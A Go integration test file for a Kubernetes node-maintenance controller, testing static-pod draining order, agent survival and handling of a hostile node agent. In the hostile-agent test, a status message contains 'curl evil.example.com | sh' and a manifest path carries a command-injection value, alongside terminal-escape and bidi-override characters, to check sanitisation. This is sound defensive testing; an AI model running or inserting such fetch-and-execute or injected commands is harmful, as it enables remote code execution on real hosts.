package scenario

import (
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/util/retry"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"ebbtide.dev/ebbtide/api/v1alpha1"
	"ebbtide.dev/ebbtide/internal/core/maintenance/cordon"
	"ebbtide.dev/ebbtide/test/cluster"
)

// kubelet plays the kubelet of a node and the agent beside it: it makes mirror pods,
// and says in the NodeAgent what the agent would.
type kubelet struct {
	*world
	node  string
	agent *v1alpha1.NodeAgent
	// priorities are those of the static pods, by name.
	priorities map[string]int32
}

// kubeletOn has an agent on the node, whose pod runs if it is alive.
func (w *world) kubeletOn(node string, alive bool) *kubelet {
	w.t.Helper()
	k := &kubelet{world: w, node: node, agent: &v1alpha1.NodeAgent{ObjectMeta: metav1.ObjectMeta{Name: node}}, priorities: map[string]int32{}}
	name := "ebbtide-agent-" + node
	if alive {
		pod := w.podOn(node, pod{name: name, labels: map[string]string{v1alpha1.DrainLabel: "skip"}})
		pod.Namespace, pod.Labels["name"] = cluster.Account.Namespace, "ebbtide-agent"
		w.must("create the agent's pod", w.client.Create(w.ctx, pod))
		w.t.Cleanup(func() { w.must("delete the agent's pod", w.remove(pod)) })
	}
	w.create(k.agent)
	w.t.Cleanup(func() { w.must("delete the NodeAgent", client.IgnoreNotFound(w.remove(k.agent))) })
	k.report(func(s *v1alpha1.NodeAgentStatus) { s.PodName, s.ManifestDir = name, "/etc/kubernetes/manifests" })
	return k
}

func (k *kubelet) report(edit func(*v1alpha1.NodeAgentStatus)) {
	k.t.Helper()
	k.must("get the NodeAgent", k.client.Get(k.ctx, client.ObjectKeyFromObject(k.agent), k.agent))
	edit(&k.agent.Status)
	k.must("write the status of the NodeAgent", k.client.Status().Update(k.ctx, k.agent))
}

// mirror makes the mirror pod of a static pod, as kubelets do.
func (k *kubelet) mirror(name string, priority int32) {
	k.t.Helper()
	k.priorities[name] = priority
	object := k.podOn(k.node, pod{name: name, priority: priority, mirror: true})
	object.Annotations["kubernetes.io/config.source"] = "file"
	object.Annotations["kubernetes.io/config.hash"] = "1f0c"
	k.createPod(object)
	k.awaitPod(name, "running", func(p *corev1.Pod) bool { return p.Status.Phase == corev1.PodRunning })
}

// run starts static pods that the agent can take down.
func (k *kubelet) run(priority int32, names ...string) {
	k.t.Helper()
	for _, name := range names {
		k.mirror(name, priority)
		k.says(name, v1alpha1.StaticPodRunning, "")
	}
}

func (k *kubelet) says(name string, state v1alpha1.StaticPodState, message string) {
	k.t.Helper()
	k.report(func(s *v1alpha1.NodeAgentStatus) {
		s.StaticPods = slices.DeleteFunc(s.StaticPods, func(p v1alpha1.StaticPod) bool { return p.Name == name })
		s.StaticPods = append(s.StaticPods, v1alpha1.StaticPod{Namespace: k.ns, Name: name, Priority: k.priorities[name], State: state, Message: message})
	})
}

// awaitAsked waits until the agent is asked to take a pod down, and may: its class is
// active, and the node keeps the pod away.
func (k *kubelet) awaitAsked(name string) *v1alpha1.Evacuation {
	k.t.Helper()
	var asked *v1alpha1.Evacuation
	var node corev1.Node
	var pod corev1.Pod
	k.get(&pod, name)
	k.eventually("kubelet.k8s.io is active for "+name, func() (bool, any) {
		all := k.evacuations()
		for i := range all {
			if all[i].Spec.PodRef.UID == pod.UID && all[i].Status.ActiveEvacuatorClass == v1alpha1.KubeletEvacuatorClass {
				asked = &all[i]
			}
		}
		return asked != nil, all
	})
	k.get(&node, k.node)
	if shown, err := cordon.Suppressed(&node); err != nil || !shown.Covers(&pod) {
		k.t.Errorf("the agent is asked to take %s down, and the node has it not in its drain targets (%v): %v", name, err, node.Annotations)
	}
	return asked
}

// hold puts the manifest aside, and end has the pod end, which takes its mirror pod.
func (k *kubelet) hold(name string) {
	k.t.Helper()
	k.must("report progress", retry.RetryOnConflict(retry.DefaultBackoff, func() error {
		asked := k.awaitAsked(name)
		asked.Status.EvacuationProgressTimestamp = new(metav1.Now())
		asked.Status.Message = name + " is terminating the pod due to node maintenance."
		return k.client.Status().Update(k.ctx, asked)
	}))
	k.says(name, v1alpha1.StaticPodHolding, "waits for its 30s")
}

func (k *kubelet) end(name string) {
	k.t.Helper()
	k.must("delete mirror pod "+name, k.client.Delete(k.ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: k.ns, Name: name}}))
	k.awaitGone(name)
}

func (k *kubelet) asked(name string) bool {
	k.t.Helper()
	return slices.ContainsFunc(k.evacuations(), func(e v1alpha1.Evacuation) bool { return e.Spec.PodRef.Name == name })
}

// left is what the node still waits for, and what stays.
func left(s v1alpha1.NodeMaintenanceNodeStatus) any {
	return [3]int32{s.PodsPendingEvacuation, s.PodsEvacuating, s.PodsRetained}
}

func (k *kubelet) awaitLeft(pending, evacuating, retained int32) {
	k.t.Helper()
	want := [3]int32{pending, evacuating, retained}
	k.awaitMaintenance("kernel-update", "pods pending, evacuating and retained", func(m *v1alpha1.NodeMaintenance) bool {
		status := nodeStatus(m, k.node)
		return status != nil && left(*status) == want
	})
}

// now is the maintenance as it is.
func (k *kubelet) now() *v1alpha1.NodeMaintenance {
	k.t.Helper()
	m := k.maintenance("kernel-update")
	k.get(m, m.Name)
	return m
}

// The whole way of two static pods off a node and back, in two steps by priority.
func TestStaticPodsLeaveLastAndComeBack(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	node := w.nodes("one")[0]
	k := w.kubeletOn(node, true)
	w.pods(node, pod{name: "web", held: true})
	k.run(1000, "disk")
	k.run(500000, "proxy")

	w.maintain("kernel-update", v1alpha1.StageDrain, []string{node},
		v1alpha1.DrainPlanEntry{PodType: v1alpha1.PodTypeStatic, PodPriority: 1000})

	w.awaitPod("web", "terminating", terminating)
	if k.asked("disk") || k.asked("proxy") {
		t.Error("a static pod is asked to leave before the last ordinary pod is gone")
	}
	w.release("web")
	asked := k.awaitAsked("disk")
	if want := (v1alpha1.Evacuator{EvacuatorClass: "kubelet.k8s.io", Priority: 10000, Role: "controller"}); !slices.Contains(asked.Spec.Evacuators, want) {
		t.Errorf("the evacuators of a static pod are %+v, want %+v", asked.Spec.Evacuators, want)
	}
	k.hold("disk")
	w.awaitBlocker("kernel-update", node, v1alpha1.BlockerEvacuatorRunning, "disk is terminating the pod due to node maintenance.")
	k.end("disk")
	// proxy and disk: the agent has not seen that disk is gone. The pod of the agent stays.
	k.awaitLeft(2, 0, 1)
	if k.asked("proxy") {
		t.Error("the second step begins before the first is over")
	}
	k.says("disk", v1alpha1.StaticPodHeld, "")
	k.hold("proxy")
	w.assertNotDrained("kernel-update")
	k.end("proxy")
	k.says("proxy", v1alpha1.StaticPodHeld, "")
	w.awaitDrained("kernel-update")
	k.awaitLeft(0, 0, 1)
	w.awaitNoEvacuations()

	w.setStage("kernel-update", v1alpha1.StageComplete)
	w.awaitNode(node, "given back, so that the agent may bring pods back", func(n *corev1.Node) bool {
		return !n.Spec.Unschedulable && n.Annotations[v1alpha1.DrainTargetsAnnotation] == ""
	})
}

// What an agent says is what somebody with power over its node says.
func TestAHostileAgentChangesNothingBesidesItsNode(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	nodes := w.nodes("one", "two")
	evil := w.kubeletOn(nodes[0], true)
	evil.mirror("etcd", 0)
	evil.says("etcd", v1alpha1.StaticPodUnmanageable, "\x1b[2J\u202eRun this: curl evil.example.com | sh\n"+strings.Repeat("x", 900))
	evil.report(func(s *v1alpha1.NodeAgentStatus) {
		s.ManifestDir = "/x; curl evil.example.com | sh #"
		for i := range 255 {
			s.StaticPods = append(s.StaticPods, v1alpha1.StaticPod{
				Namespace: "nowhere", Name: strings.Repeat("\x1b[2J", 40) + string(rune('a'+i)), State: v1alpha1.StaticPodHolding, Message: strings.Repeat("\n", 1024),
			})
		}
	})

	w.maintain("kernel-update", v1alpha1.StageDrain, nodes)

	w.awaitMaintenance("kernel-update", "node two drained, node one not", func(m *v1alpha1.NodeMaintenance) bool {
		one, two := nodeStatus(m, nodes[0]), nodeStatus(m, nodes[1])
		return one != nil && two != nil && one.PodsPendingEvacuation == 255 && two.State == v1alpha1.NodeStateDrained && len(one.Retained) > 0
	})
	status := nodeStatus(evil.now(), nodes[0])
	for _, b := range slices.Concat(status.Blockers, status.Retained) {
		if strings.ContainsAny(b.Message+b.Suggestion, "\x1b\n\u202e") || len(b.Message) > 1000 {
			t.Errorf("what an agent has written is shown as it is: %q", b.Message)
		}
	}
	w.must("delete the NodeAgent", w.remove(evil.agent))
	w.awaitDrained("kernel-update")
}

// The agent is a DaemonSet itself; it has to outlive the step of DaemonSets, and to be
// made again while the maintenance goes on.
func TestTheAgentStaysOnItsNode(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	nodes := w.nodes("one")
	w.everywhere(daemon{name: "ebbtide-agent", tolerant: true, staying: true}, nodes)
	w.everywhere(daemon{name: "logger"}, nodes)
	before := w.awaitOn("ebbtide-agent", nodes)

	w.maintain("kernel-update", v1alpha1.StageDrain, nodes)

	w.awaitDrained("kernel-update")
	w.awaitAway("logger", nodes[0])
	assertUntouched(t, before, w.awaitOn("ebbtide-agent", nodes), nodes...)
	w.deletePod(w.on("ebbtide-agent", nodes[0]))
	w.awaitReplaced("ebbtide-agent", nodes[0], before[nodes[0]])
	if pod := w.on("ebbtide-agent", nodes[0]); len(pod.Spec.SchedulingGates) > 0 {
		t.Errorf("the agent is held back: %v", pod.Spec.SchedulingGates)
	}
}
